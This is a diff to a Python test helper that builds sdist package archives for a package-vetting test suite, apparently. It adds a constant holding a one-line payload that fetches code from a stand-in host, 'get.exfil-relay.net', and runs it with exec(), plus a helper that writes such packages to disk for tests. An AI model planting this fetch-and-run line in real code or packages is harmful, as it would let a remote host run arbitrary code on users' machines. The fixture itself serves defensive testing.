@@ -156,3 +156,20 @@ def sdist(name: str, version: str, files: dict[str, str], pkg_info: str | None =
             info.mode = 0o644
             archive.addfile(info, io.BytesIO(data))
     return buffer.getvalue()
+
+
+#: Python that fetches code and runs it: what the vet attacks plant.
+FETCH_AND_RUN = (
+    'import urllib.request\nexec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
+)
+
+
+def relay_sdist(
+    folder: Path, version: str, files: dict[str, str], base: dict[str, str] | None = None
+) -> Path:
+    """``relay_mcp-VERSION.tar.gz`` in ``folder``: ``files`` over ``base`` (by default an empty
+    package module)."""
+    path = folder / f"relay_mcp-{version}.tar.gz"
+    base = {"relay_mcp/__init__.py": ""} if base is None else base
+    path.write_bytes(sdist("relay_mcp", version, {**base, **files}))
+    return path
